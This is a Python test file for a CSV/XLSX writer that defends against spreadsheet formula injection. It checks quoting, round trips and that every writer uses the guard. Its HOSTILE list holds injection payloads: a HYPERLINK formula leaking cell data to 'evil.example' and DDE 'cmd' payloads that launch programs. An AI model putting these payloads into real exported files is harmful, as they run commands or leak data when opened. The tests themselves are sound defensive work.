"""The one formula policy for CSV and XLSX: no cell a spreadsheet would run, lossless round trip."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from contentgen.tabular import CsvWriter, csv_cell, guard, unguard, write_xlsx, xlsx_value
from tests.fuzzing import examples

# What spreadsheet programs treat as the start of a formula, written out independently of the
# module under test: these characters (and their compatibility forms), past leading blanks and
# invisible characters, or a TAB / CR anywhere in that leading run.
TRIGGERS = "=+-@\N{MINUS SIGN}"
INVISIBLE = ("Zs", "Zl", "Zp", "Cc", "Cf")


def runs_as_formula(cell: str) -> bool:
    """True when a spreadsheet program could evaluate `cell` (the test's own oracle)."""
    rest = cell
    while rest and (rest[0].isspace() or unicodedata.category(rest[0]) in INVISIBLE):
        if rest[0] in "\t\r":
            return True
        rest = rest[1:]
    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[:1] in TRIGGERS


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n=1+1",
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{SMALL EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{MINUS SIGN}1+1",
    "'=1+1",  # already quoted: quoted once more, so reading back restores the apostrophe
    "''@x",
    "' =1",
]
HARMLESS = ["Plain copy, 20% off", "a=b", "x - y", "'quoted'", "", "  spaced", "100", "é"]

texts = st.one_of(
    st.text(),
    st.tuples(
        st.text(alphabet=" '\t\r\n\u3000\u200b\ufeff", max_size=3),
        st.sampled_from(list(TRIGGERS + "\uff1d\ufe66\uff0b\uff0d\uff20") + ["", "'"]),
        st.text(max_size=20),
    ).map("".join),
)


def _read_csv(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


def _csv(rows: list[list[Any]]) -> str:
    handle = io.StringIO(newline="")
    writer = CsvWriter(handle)
    writer.writerow(["text", "number"])
    writer.writerows(rows)
    return handle.getvalue()


def _xlsx(rows: list[list[Any]]) -> list[list[Any]]:
    from openpyxl import load_workbook

    buffer = io.BytesIO()
    write_xlsx(buffer, ["text", "number"], rows, title="t")
    buffer.seek(0)
    sheet = load_workbook(buffer)["t"]
    return [[(c.value, c.data_type) for c in line] for line in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted_and_restored(text: str) -> None:
    assert runs_as_formula(text.lstrip("'"))
    assert guard(text) == "'" + text
    assert not runs_as_formula(guard(text))
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_unchanged(text: str) -> None:
    assert guard(text) == text and unguard(text) == text


def test_numbers_stay_numbers_and_other_values_become_guarded_text() -> None:
    assert [csv_cell(v) for v in (-5, 2.5, Decimal("-1.25"), 0)] == [-5, 2.5, Decimal("-1.25"), 0]
    assert csv_cell(None) == "" and csv_cell(True) == "True"
    # A non-finite float is text to a spreadsheet, and "-inf" would be read as a formula.
    assert csv_cell(float("-inf")) == "'-inf" and csv_cell(float("nan")) == "nan"
    assert xlsx_value(-5) == -5 and xlsx_value(None) is None
    assert xlsx_value("\x01=1+1") == "'=1+1", "removing an illegal character uncovered '='"
    assert csv_cell("\ud800=x") == "\ufffd=x", "a lone surrogate cannot be written as UTF-8"


def test_csv_keeps_negative_numbers_numeric() -> None:
    assert _read_csv(_csv([["=1", -3], ["x", 2.5]]))[1:] == [["'=1", "-3"], ["x", "2.5"]]


def test_xlsx_writes_text_as_string_cells_and_numbers_as_numbers() -> None:
    (hostile, plain) = _xlsx([["=1+1", -3], ["plain", 2.5]])
    assert hostile == [("'=1+1", "s"), (-3, "n")]
    assert plain == [("plain", "s"), (2.5, "n")]


@settings(max_examples=examples(200))
@given(st.lists(texts, min_size=1, max_size=8))
@example(["\x1c=1"])  # \x1c counts as whitespace to Python
@example(["'\t"])
@example(["\x00"])
@example(["\r"])  # XML reads a bare CR back as LF
def test_no_written_cell_runs_as_a_formula_and_every_cell_reads_back(values: list[str]) -> None:
    rows = [[text, i] for i, text in enumerate(values)]
    read = _read_csv(_csv(rows))[1:]
    assert [line[0] for line in read if runs_as_formula(line[0])] == []
    assert [unguard(line[0]) for line in read] == values

    cells = _xlsx(rows)
    assert all(kind == "s" for (value, kind), _ in cells if value is not None)
    texts_back = ["" if value is None else value for (value, _), _ in cells]
    assert [t for t in texts_back if runs_as_formula(t)] == []
    # XLSX (XML) cannot hold C0 control characters other than TAB and LF: they are dropped, and
    # line breaks are stored as LF.
    lf = [t.replace("\r\n", "\n").replace("\r", "\n") for t in values]
    legal = ["".join(c for c in t if c in "\t\n" or ord(c) >= 32) for t in lf]
    assert [unguard(t) for t in texts_back] == legal


def test_every_csv_and_xlsx_writer_goes_through_the_policy() -> None:
    # A writer that calls csv or openpyxl directly would bypass the formula policy.
    import contentgen

    root = Path(contentgen.__file__).parent
    direct = re.compile(r"csv\.(writer|DictWriter)\(|WriteOnlyCell|Workbook\(|\.value\s*=[^=]")
    # The review sheet styles its workbook itself; its cells are filled by set_xlsx_cell.
    allowed = {("feedback/sheetfiles.py", "Workbook(")}
    offenders = []
    for path in sorted(root.rglob("*.py")):
        name = path.relative_to(root).as_posix()
        source = path.read_text(encoding="utf-8")
        if name == "tabular.py" or not ("openpyxl" in source or "import csv" in source):
            continue
        for number, line in enumerate(source.splitlines(), start=1):
            found = direct.search(line)
            if found and (name, found.group(0)) not in allowed:
                offenders.append(f"{name}:{number}: {line.strip()}")
    assert offenders == []
